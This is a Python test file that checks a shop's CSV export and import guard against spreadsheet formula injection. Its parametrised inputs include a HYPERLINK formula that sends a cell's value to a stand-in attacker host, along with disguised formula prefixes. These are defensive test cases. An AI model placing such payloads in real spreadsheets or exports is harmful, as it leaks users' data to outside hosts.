"""No cell that we write is a formula to a spreadsheet, and our importer reads it as it was."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from store.files.audience_csv import read_rows
from store.files.code_csv import read_codes
from store.files.spreadsheet import guarded, is_safe, unguarded

FORMULAS = (
    '=HYPERLINK("https://evil.example/?"&A1)', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1",
    "＝1+1", "＋1", "－1", "＠SUM(A1)", "  =1", '"=1', "'=1", "\u00a0=1", "\u200b=1",
    "Ann;=1+1", "Ann\t=1", "Ann|=1", "Ann, -1", "+49 30 123456", "-12.50",
)  # fmt: skip
SEPARATORS = ",;|\t"


def _id(text: str) -> str:
    return "-".join(f"{ord(letter):04X}" for letter in text[:8])


def begins_formula(cell: str) -> bool:
    """A second opinion on what a careful spreadsheet would take for a formula."""
    return bool(re.match(r"[=+@\-＝＋－＠\t\r]", cell.lstrip(' "\u00a0\u3000\u200b\ufeff')))


@pytest.mark.parametrize("cell", FORMULAS, ids=_id)
def test_a_formula_becomes_a_text_whatever_the_separator_is(cell: str) -> None:
    written = guarded(cell)
    parts = re.split(f"[{SEPARATORS}\r\n]", written)

    assert [part for part in parts if part and begins_formula(part)] == []
    assert (unguarded(written), is_safe(cell)) == (cell, False)


@pytest.mark.parametrize("cell", ["Ann-Marie", "a=b", "O'Neil", "'quoted'", "1 - 2", "a@b.example"])
def test_what_is_no_formula_is_written_as_it_is(cell: str) -> None:
    assert (guarded(cell), unguarded(cell)) == (cell, cell)


@given(st.text("=+-@'\"\t\r\n ,;|a\uff1d\u200b", max_size=12))
def test_every_cell_comes_back_as_it_was(cell: str) -> None:
    written = guarded(cell)

    assert unguarded(written) == cell
    assert not any(begins_formula(part) for part in re.split("[,;|]", written) if part)


@pytest.mark.parametrize("cell", FORMULAS, ids=_id)
def test_a_rejected_row_is_fixed_and_imported_with_its_own_value(tmp_path: Path, cell: str) -> None:
    rejected = _rejects_of(tmp_path / "list.csv", cell)
    rows = list(csv.reader(io.StringIO(rejected, newline="")))
    assert [one for row in rows for one in row if begins_formula(one)] == []

    fixed = rejected.replace("not an address", "ann@example.org")
    unchanged = _csv(["email", "note"], ["ann@example.org", cell])
    assert _notes(tmp_path / "fixed.csv", fixed) == _notes(tmp_path / "unchanged.csv", unchanged)


def test_a_foreign_list_keeps_its_apostrophes(tmp_path: Path) -> None:
    given = _csv(["email", "note"], ["ann@example.org", "'@home'"])
    assert _notes(tmp_path / "list.csv", given) == ["'@home'"]


@pytest.mark.parametrize("code", ["=1+1", "+10", "-10OFF", "@HOME", "A;=1"])
def test_a_code_that_a_spreadsheet_would_calculate_is_not_taken(tmp_path: Path, code: str) -> None:
    """Exported with an apostrophe, the shop would not know it."""
    path = tmp_path / "codes.csv"
    path.write_text(f'code\n"{code}"\n"AB-12=C"\n', encoding="utf-8")
    with read_codes(path) as codes:
        assert list(codes) == ["AB-12=C"]
    assert "formula" in codes.rejects.first[0].reason


def _csv(*rows: list[str]) -> str:
    text = io.StringIO(newline="")
    csv.writer(text).writerows(rows)
    return text.getvalue()


def _rejects_of(path: Path, cell: str) -> str:
    path.write_bytes(_csv(["email", "note"], ["not an address", cell]).encode())
    with read_rows(path) as rows:
        assert list(rows) == []
    return rows.rejects.path.read_bytes().decode()


def _notes(path: Path, text: str) -> list[str]:
    path.write_bytes(text.encode())
    with read_rows(path) as rows:
        return [row.columns.get("note", "") for row in rows]
